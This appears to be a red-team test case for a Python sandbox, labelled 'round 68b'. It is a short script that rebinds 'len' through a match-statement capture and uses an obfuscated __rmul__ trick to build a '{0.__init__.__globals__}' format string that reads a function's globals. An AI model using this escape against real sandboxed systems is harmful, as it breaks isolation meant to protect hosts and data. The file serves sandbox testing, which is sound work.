# family: red team, round 68b (len bound by a match star capture)
class Evil:
    def __rmul__(self, other):
        u = "x_"[1] + "x_"[1]
        return "{0." + u + "init" + u + "." + u + "globals" + u + "}"
def mk(x):
    return Evil()
def show():
    return 1
match [mk]:
    case [*rest]:
        pass
match mk:
    case len:
        print(("{}" * len(show)).format(show))
